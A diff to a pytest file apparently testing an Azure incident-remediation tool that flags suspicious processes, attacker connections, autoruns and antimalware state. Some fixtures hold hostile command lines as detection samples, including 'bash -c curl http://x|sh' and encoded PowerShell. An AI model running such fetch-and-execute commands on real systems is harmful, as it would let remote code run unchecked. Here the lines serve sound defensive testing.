@@ -25,6 +25,7 @@ from remediation.steps import (
     msrt,
     posture,
     processes,
+    related_alerts,
     updates,
     watch,
 )
@@ -81,17 +82,31 @@ def test_every_step_says_what_it_asks_of_azure_and_what_it_changes():
 # --- processes ---
 
 
-@pytest.mark.parametrize(("row", "weight", "why"), [
-    (process(), None, ""),
-    (process("/opt/shop/run"), "note", "where none is expected"),
-    (process("/tmp/.x/kworkerd"), "likely", "anyone may write"),  # noqa: S108 - it is a fact of the row
-    (process("/usr/bin/x (deleted)", deleted=True), "likely", "has been deleted"),
-    (process("", cmd="[kworker/0:1]", name="kworker", ppid=1234), "likely", "thread of the kernel"),
-    (process("", cmd="", name="kworker", ppid=2), None, ""),
-    (process("C:\\Windows\\System32\\svchost.exe", signed="Valid"), None, ""),
-    (process("C:\\Windows\\System32\\svchost.exe", signed="HashMismatch"), "likely", "HashMismatch"),
-    (process("C:\\Users\\Public\\a.exe"), "likely", "anyone may write"),
-])
+@pytest.mark.parametrize(
+    ("row", "weight", "why"),
+    [
+        (process(), None, ""),
+        (process("/opt/shop/run"), "note", "where none is expected"),
+        (process("/tmp/.x/kworkerd"), "likely", "anyone may write"),  # noqa: S108 - it is a fact of the row
+        (process("/usr/bin/x (deleted)", deleted=True), "likely", "has been deleted"),
+        (process("", cmd="[kworker/0:1]", name="kworker", ppid=1234), "likely", "thread of the kernel"),
+        (process("/usr/lib/x", cmd="[kworker/0:1]"), "likely", "thread of the kernel"),
+        (process("/usr/bin/python3.12", cmd="python3 /tmp/.x/c2.py"), "likely", "its script is where"),
+        (process("/usr/bin/bash", cmd="bash -c curl http://x|sh"), "likely", "fetch or to hide"),
+        (process("/usr/bin/python3", cmd="python3 /usr/share/x.py --tmp /tmp/y"), None, ""),
+        (process("/usr/bin/python3", cmd="python3"), None, ""),
+        (
+            process("C:\\Windows\\System32\\powershell.exe", cmd="powershell -enc AAAA", signed="Valid"),
+            "likely",
+            "fetch or to hide",
+        ),
+        (process("C:\\Windows\\x.exe", signed="NotSigned"), "note", "is not signed"),
+        (process("", cmd="", name="kworker", ppid=2), None, ""),
+        (process("C:\\Windows\\System32\\svchost.exe", signed="Valid"), None, ""),
+        (process("C:\\Windows\\System32\\svchost.exe", signed="HashMismatch"), "likely", "HashMismatch"),
+        (process("C:\\Users\\Public\\a.exe"), "likely", "anyone may write"),
+    ],
+)
 def test_a_process_wants_an_explanation_by_where_its_program_lives(row: Any, weight: str | None, why: str):
     found = processes.judge(out(row), [ATTACKER])
     assert weights(found) == ([weight] if weight else [])
@@ -99,21 +114,50 @@ def test_a_process_wants_an_explanation_by_where_its_program_lives(row: Any, wei
 
 
 def test_a_live_connection_to_the_attacker_confirms_the_machine_in_whatever_form_it_is_told():
-    hexed = {"kind": "socket", "pid": 7, "remote": "076433C6:01BB", "state": "01"}
-    mapped = {"kind": "socket", "pid": 7, "remote": "0000000000000000FFFF0000076433C6:01BB", "state": "02"}
+    hexed = {"kind": "socket", "pid": 7, "remote": "076433C6:01BB", "state": "01", "inbound": False}
+    mapped = {**hexed, "remote": "0000000000000000FFFF0000076433C6:01BB"}
     windows = {"kind": "connection", "pid": 7, "address": ATTACKER, "port": 443, "state": "Established"}
     for row in (hexed, mapped, windows):
         found = processes.judge(out(process(), row), [ATTACKER])
         assert weights(found) == ["confirmed"]
         assert f"connected to {ATTACKER}" in found.signs[0].text
-    over = {**hexed, "state": "06"}
-    assert weights(processes.judge(out(process(), over), [ATTACKER])) == []
+    assert weights(processes.judge(out(process(), {**hexed, "state": "06"}), [ATTACKER])) == []
 
 
-def test_an_unfamiliar_process_that_speaks_with_the_internet_weighs_more():
-    talks = {"kind": "socket", "pid": 7, "remote": "08080808:01BB", "state": "01"}
-    assert weights(processes.judge(out(process("/opt/x/y"), talks), [])) == ["likely"]
+def test_an_attempt_is_no_connection_and_one_that_came_in_is_no_proof():
+    hexed = {"kind": "socket", "pid": 7, "remote": "076433C6:01BB", "state": "02", "inbound": False}
+    tries = processes.judge(out(process(), hexed), [ATTACKER])
+    assert (weights(tries), "tries to connect" in tries.signs[0].text) == (["likely"], True)
+    came = processes.judge(out(process(), {**hexed, "state": "01", "inbound": True}), [ATTACKER])
+    assert (weights(came), "none connected to the attacker" in came.says) == (["note"], True)
+
+
+def test_an_unfamiliar_process_is_a_note_and_what_it_speaks_with_is_said():
+    talks = {"kind": "socket", "pid": 7, "remote": "08080808:01BB", "state": "01", "inbound": False}
+    found = processes.judge(out(process("/opt/x/y"), talks), [])
+    assert (weights(found), "speaks with the internet" in found.signs[0].text) == (["note"], True)
     assert weights(processes.judge(out(process("/opt/x/y"), talks), [], ["/opt/x/"])) == []
+    assert weights(processes.judge(out(process("/app/y", container=True)), [])) == []
+
+
+def test_output_that_is_not_whole_may_hide_something_and_says_so():
+    broken = read(b'{"kind":"process","pid":1,"exe":"/usr/bin/x"}\nnonsense')
+    assert "may hide something" in processes.judge(broken, []).signs[-1].text
+    assert "may hide something" in autoruns.judge(broken, NOW).signs[-1].text
+    assert (
+        "may hide something"
+        in antimalware.judge(read(b'{"kind":"product","running":true}'), "linux").signs[-1].text
+    )
+    with pytest.raises(StepFailed, match="not complete"):
+        cut_flows.judge(broken, cut=True)
+    with pytest.raises(StepFailed, match="not complete"):
+        av_scan.judge(broken, NOW)
+
+
+def test_a_line_end_of_another_alphabet_hides_no_process():
+    row = {**process("/tmp/evil"), "cmd": "a\u2028b\u0085c"}  # noqa: S108 - it is a fact of the row
+    found = processes.judge(read((json.dumps(row, ensure_ascii=False) + '\n{"kind":"end"}').encode()), [])
+    assert weights(found) == ["likely"]
 
 
 def test_garbage_in_addresses_is_nobody():
@@ -156,12 +200,20 @@ def test_what_starts_by_itself_is_weighed_by_what_it_starts_and_when_it_changed(
             entry("unit", "/etc/systemd/system/e.service", "ExecStart=/opt/mine/e", new),
         ),
         start,
-        NOW,
         ["/opt/mine/"],
     )
     assert weights(found) == ["likely", "likely", "likely", "note"]
     assert "2 changed since a week before" in found.says
     assert len(found.marks) == 7
+
+
+def test_a_forged_time_breaks_nothing_and_one_of_the_future_counts_as_new():
+    def entry(modified: int, kind: str = "unit") -> dict[str, Any]:
+        return {"kind": kind, "path": "/etc/x", "what": "/usr/bin/a", "modified": modified}
+
+    assert "when they changed is not known" in autoruns.judge(out(entry(0), entry(99999999999999)), NOW).says
+    assert weights(autoruns.judge(out(entry(int(NOW.timestamp()) + 10**8)), NOW)) == ["note"]
+    assert weights(autoruns.judge(out(entry(0, "wmi")), NOW)) == ["likely"]
 
 
 # --- flows, antimalware, scan, tool ---
@@ -177,13 +229,16 @@ def test_live_flows_want_a_yes_and_those_that_remain_are_a_failure():
         "peer": f"{ATTACKER}:443",
     }
     found = cut_flows.judge(out(tools, flow, {**flow, "state": "TIME-WAIT"}), cut=False)
-    assert (found.wants, weights(found)) == ("cut 1 live connections with the attacker", ["confirmed"])
+    assert (found.wants, weights(found)) == ("cut 1 live connections with 198.51.100.7", ["confirmed"])
     assert cut_flows.judge(out(tools), cut=False).wants == ""
     assert "1 live connections with the attacker were cut" in cut_flows.judge(out(tools, flow), cut=True).says
     with pytest.raises(StepFailed, match="1 of 1 connections with the attacker remain"):
         cut_flows.judge(out(tools, flow, {**flow, "kind": "after"}), cut=True)
     with pytest.raises(StepFailed, match="no tool"):
         cut_flows.judge(out({**tools, "ss": False}), cut=False)
+    came, tries = {**flow, "inbound": True}, {**flow, "state": "SYN-SENT"}
+    assert weights(cut_flows.judge(out(tools, came, tries), cut=False)) == ["note", "likely"]
+    assert "1 live" in cut_flows.judge(out(tools, came, tries, {**tries, "kind": "after"}), cut=True).says
 
 
 def test_antimalware_that_does_not_run_or_is_old_is_said_and_one_is_wanted_where_there_is_none():
@@ -195,35 +250,47 @@ def test_antimalware_that_does_not_run_or_is_old_is_said_and_one_is_wanted_where
                 "running": True,
                 "version": "1",
                 "realTime": "true",
-                "definitions": "2026-01-01T00:00:00Z",
-                "healthy": "",
+                "ageMinutes": 60,
+                "mode": "active",
+                "healthy": "true",
                 **changes,
             }
         )
 
-    assert weights(antimalware.judge(product(), NOW, "linux")) == []
-    assert weights(antimalware.judge(product(running=False), NOW, "linux")) == ["likely"]
-    assert weights(antimalware.judge(product(realTime="False"), NOW, "linux")) == ["likely"]
-    assert (
-        weights(antimalware.judge(product(definitions="2025-11-01 00:00:00.123456789 +0000"), NOW, "linux"))
-        == ["note"]
-    )
-    assert weights(antimalware.judge(product(definitions="2025-11-01 00:00:00"), NOW, "linux")) == ["note"]
-    assert antimalware.judge(out(), NOW, "windows").wants == "install Microsoft's antimalware extension"
-    assert antimalware.judge(out(), NOW, "linux").wants == ""
+    def weight(**changes: Any) -> list[str]:
+        return weights(antimalware.judge(product(**changes), "linux"))
+
+    assert weight() == weight(ageMinutes=-1) == weight(mode="passive", realTime="false") == []
+    assert weight(running=False) == weight(realTime="False") == ["likely"]
+    assert weight(ageMinutes=20_000) == weight(healthy="false") == ["note"]
+    assert "(scanner)" in antimalware.judge(product(mode="scanner"), "linux").says
+    assert antimalware.judge(out(), "windows").wants == "install Microsoft's antimalware extension"
+    assert antimalware.judge(out(), "linux").wants == ""
 
 
 def test_a_threat_that_is_still_there_confirms_and_one_that_is_gone_stays_likely():
-    def threat(status: str) -> dict[str, Any]:
-        return {"kind": "threat", "name": "EICAR", "status": status, "path": "/srv/x"}
+    def threat(status: str, seen: str = "") -> dict[str, Any]:
+        return {"kind": "threat", "name": "EICAR", "status": status, "path": "/srv/x", "seen": seen}
 
-    assert weights(av_scan.judge(out(threat("active"), threat("quarantined")))) == ["confirmed"]
-    assert weights(av_scan.judge(out(threat("Quarantined")))) == ["likely"]
-    assert av_scan.judge(out()).says == "the scan found nothing"
+    def weight(*rows: dict[str, Any]) -> list[str]:
+        return weights(av_scan.judge(out(*rows), NOW))
+
+    assert weight(threat("active"), threat("quarantined")) == ["confirmed"]
+    assert (
+        weight(threat("quarantine_failed"))
+        == weight(threat("allowed"))
+        == weight(threat(""))
+        == ["confirmed"]
+    )
+    assert weight(threat("Quarantined")) == weight(threat("removed", "odd")) == ["likely"]
+    assert weight(threat("removed", "2026-01-01T00:00:00")) == ["likely"]
+    old = av_scan.judge(out(threat("removed", "2025-11-01T00:00:00Z")), NOW)
+    assert (weights(old), old.says) == ([], "the scan found nothing; 1 threats of long ago are gone")
+    assert av_scan.judge(out(), NOW).says == "the scan found nothing"
 
 
 @pytest.mark.parametrize(
-    ("code", "weight"), [(0, []), (6, ["confirmed"]), (13, ["confirmed"]), (99, ["note"])]
+    ("code", "weight"), [(0, []), (6, ["confirmed"]), (8, ["confirmed"]), (12, ["likely"])]
 )
 def test_the_removal_tools_exit_code_is_its_answer(code: int, weight: list[str]):
     assert weights(msrt.judge(out({"kind": "ran", "exit": code}))) == weight
@@ -232,6 +299,8 @@ def test_the_removal_tools_exit_code_is_its_answer(code: int, weight: list[str])
 def test_a_tool_that_did_not_run_or_is_not_microsofts_is_a_failure():
     with pytest.raises(StepFailed, match="did not run"):
         msrt.judge(out())
+    with pytest.raises(StepFailed, match="error 3"):
+        msrt.judge(out({"kind": "ran", "exit": 3}))
     with pytest.raises(StepFailed, match="not signed by Microsoft"):
         msrt.judge(out({"kind": "refused", "why": "what was fetched is not signed by Microsoft"}))
 
@@ -278,7 +347,7 @@ def test_a_flow_is_said_of_the_machine_whose_address_it_shows():
     found = log_traces.judge(
         [Traces("flow_logs", "w", (row("10.0.0.4", ATTACKER), row(ATTACKER, "10.0.0.5", "Denied"),
                                    row("10.9.9.9", ATTACKER), row("x", "y"))),
-         Traces("signins", "w", (row(ATTACKER, "eve@contoso.example", "0"),)),
+         Traces("signins", "w", (row(ATTACKER, "eve@contoso.example", "0"), row(ATTACKER, "bob", "50126"))),
          Traces("waf", "w", missing=True), Traces("waf", "w2"), Traces("activity", "w", trouble="q: 403 no")],
         {"10.0.0.4": "/vm/1", "10.0.0.5": "/vm/2"}, [ATTACKER])
     by_machine = {(s.machine, s.weight) for s in found.signs}
@@ -288,7 +357,7 @@ def test_a_flow_is_said_of_the_machine_whose_address_it_shows():
         ("", Weight.NOTE),
         ("", Weight.LIKELY),
     }
-    assert "5 traces in flow_logs, signins, waf" in found.says
+    assert "6 traces in flow_logs, signins, waf" in found.says
     assert "could not be asked: w: 403 no" in found.says
 
 
@@ -305,3 +374,34 @@ def test_an_instance_of_a_scale_set_is_named_with_its_set():
     assert name_of(f"{base}/virtualmachinescalesets/web/virtualmachines/3") == "web/3"
     assert name_of(f"{base}/virtualmachines/vm") == "vm"
     assert name_of("") == ""
+
+
+def test_an_address_that_two_machines_have_names_neither_and_a_record_that_names_another_machine_none():
+    machines = [
+        {"id": "/vm/1", "addresses": ["10.0.0.4", "10.0.0.5"]},
+        {"id": "/vm/2", "addresses": ["10.0.0.4"]},
+        {"id": "/vm/2", "addresses": ["10.0.0.6", "10.0.0.6"]},
+    ]
+    owners = log_traces.machines_of(machines)
+    assert owners == {"10.0.0.5": "/vm/1", "10.0.0.6": "/vm/2"}
+    assert log_traces.owner_of({"source": "10.0.0.5", "from_vm": "rg/1"}, owners) == "/vm/1"
+    assert log_traces.owner_of({"source": "10.0.0.5", "from_vm": "rg/other"}, owners) == ""
+    assert log_traces.owner_of({"source": "x", "destination": "10.0.0.6"}, owners) == "/vm/2"
+
+
+def test_an_address_is_named_only_where_it_stands_whole():
+    for text in ('"Address":"198.51.100.7"', "IP Address: 198.51.100.7\r\n"):
+        assert related_alerts.names(text, ATTACKER)
+    for text in ("198.51.100.70", "1198.51.100.7", "198.51.100.7.1", ""):
+        assert not related_alerts.names(text, ATTACKER)
+
+
+def test_a_failed_assessment_is_no_answer():
+    assert updates._good({"status": "Succeeded"})
+    assert not updates._good({"status": "Failed", "counts": None})
+    assert not updates._fresh({"at": "odd"}, NOW)
+
+
+def test_a_failed_backup_is_said_and_what_can_be_restored():
+    found = posture.judge([], [], [{"latest": NOW.isoformat(), "status": "Failed"}], [], NOW)
+    assert "its last backup failed" in found.signs[0].text
